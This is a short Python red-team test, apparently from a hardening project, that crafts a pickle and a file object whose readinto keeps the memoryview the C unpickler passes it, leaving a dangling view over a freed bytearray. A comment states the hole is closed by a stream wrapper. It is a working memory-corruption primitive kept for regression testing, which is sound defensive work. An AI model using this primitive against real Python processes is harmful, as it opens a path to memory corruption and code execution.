# Red team round 20, sibling: the C unpickler reads a BYTEARRAY8 (or BINBYTES8) payload outside a frame with
# the file's readinto, through PyMemoryView_FromMemory over the new object's storage (no owner). The file
# keeps the view; the bytearray (56 bytes, storage in the 64-byte class) is freed when load returns.
# Closed: pickle.load and Unpickler read their file through _r2e_kernel.CopyingStream (harden_streams).
import io
import pickle

KEPT = []


class File:
    def __init__(self, data):
        self.f = io.BytesIO(data)

    def read(self, n):
        return self.f.read(n)

    def readline(self):
        return self.f.readline()

    def readinto(self, view):
        KEPT.append(view)
        return self.f.readinto(view)


def stale_view():
    pickle.load(File(b"\x80\x05\x96" + (56).to_bytes(8, "little") + bytes(56) + b"."))
    return KEPT.pop()
